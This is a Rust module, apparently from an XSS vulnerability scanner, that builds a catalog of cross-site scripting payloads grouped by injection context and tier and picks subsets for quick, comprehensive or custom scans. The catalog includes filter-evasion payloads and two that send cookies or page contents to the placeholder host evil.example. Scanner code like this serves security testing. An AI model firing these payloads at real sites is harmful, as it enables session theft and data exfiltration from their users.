//! Built-in XSS payload catalog, tagged by injection context and risk tier.
//!
//! The corpus is built once at startup and shared read-only across all
//! concurrent scans.

use serde::{Deserialize, Serialize};

use crate::model::ScanType;

/// Where a payload is designed to land.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadContext {
    HtmlBody,
    Attribute,
    Url,
    JsString,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskTier {
    Basic,
    Advanced,
    Evasion,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Payload {
    pub value: String,
    pub context: PayloadContext,
    pub tier: RiskTier,
}

impl Payload {
    fn builtin(value: &str, context: PayloadContext, tier: RiskTier) -> Self {
        Self {
            value: value.to_string(),
            context,
            tier,
        }
    }

    /// Wrap a caller-supplied payload string, inferring a rough context tag
    /// from its shape.
    pub fn custom(value: &str) -> Self {
        let context = if value.starts_with("javascript:") || value.starts_with("data:") {
            PayloadContext::Url
        } else if value.starts_with('"') || value.starts_with('\'') {
            PayloadContext::Attribute
        } else if value.contains("';") || value.contains("\";") {
            PayloadContext::JsString
        } else {
            PayloadContext::HtmlBody
        };
        Self {
            value: value.to_string(),
            context,
            tier: RiskTier::Advanced,
        }
    }
}

#[derive(Debug, Clone)]
pub struct PayloadCorpus {
    payloads: Vec<Payload>,
}

impl PayloadCorpus {
    pub fn builtin() -> Self {
        use PayloadContext::*;
        use RiskTier::*;

        let payloads = vec![
            // Basic tier: the classic probes every quick scan should throw.
            Payload::builtin("<script>alert('XSS')</script>", HtmlBody, Basic),
            Payload::builtin("<img src=x onerror=alert('XSS')>", HtmlBody, Basic),
            Payload::builtin("<svg onload=alert('XSS')>", HtmlBody, Basic),
            Payload::builtin("<iframe src=javascript:alert('XSS')></iframe>", HtmlBody, Basic),
            Payload::builtin("javascript:alert('XSS')", Url, Basic),
            Payload::builtin("\"><script>alert('XSS')</script>", Attribute, Basic),
            Payload::builtin("\" onmouseover=alert('XSS') x=\"", Attribute, Basic),
            Payload::builtin("';alert('XSS');//", JsString, Basic),
            // Advanced tier: exfiltration and indirection.
            Payload::builtin(
                "<script>document.location='http://evil.example/steal?c='+document.cookie</script>",
                HtmlBody,
                Advanced,
            ),
            Payload::builtin(
                "<img src=x onerror=fetch('http://evil.example/steal?d='+document.body.innerHTML)>",
                HtmlBody,
                Advanced,
            ),
            Payload::builtin(
                "<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>",
                HtmlBody,
                Advanced,
            ),
            Payload::builtin("<details open ontoggle=alert('XSS')>", HtmlBody, Advanced),
            Payload::builtin("data:text/html,<script>alert('XSS')</script>", Url, Advanced),
            Payload::builtin("\";alert('XSS');//", JsString, Advanced),
            // Evasion tier: filter and keyword-blocklist bypasses.
            Payload::builtin("<ScRiPt>alert('XSS')</ScRiPt>", HtmlBody, Evasion),
            Payload::builtin("<scr<script>ipt>alert('XSS')</scr</script>ipt>", HtmlBody, Evasion),
            Payload::builtin("<svg><script>alert('XSS')</script></svg>", HtmlBody, Evasion),
            Payload::builtin("<script src=data:,alert('XSS')></script>", HtmlBody, Evasion),
            Payload::builtin("java\tscript:alert('XSS')", Url, Evasion),
        ];

        Self { payloads }
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = &Payload> {
        self.payloads.iter()
    }

    /// Payload subset for a scan: quick runs the basic tier only,
    /// comprehensive runs everything, custom merges the caller's list with
    /// the full corpus.
    pub fn select(&self, scan_type: ScanType, custom: &[String]) -> Vec<Payload> {
        match scan_type {
            ScanType::Quick => self
                .payloads
                .iter()
                .filter(|p| p.tier == RiskTier::Basic)
                .cloned()
                .collect(),
            ScanType::Comprehensive => self.payloads.clone(),
            ScanType::Custom => {
                let mut selected = self.payloads.clone();
                for value in custom {
                    if !selected.iter().any(|p| p.value == *value) {
                        selected.push(Payload::custom(value));
                    }
                }
                selected
            }
        }
    }
}
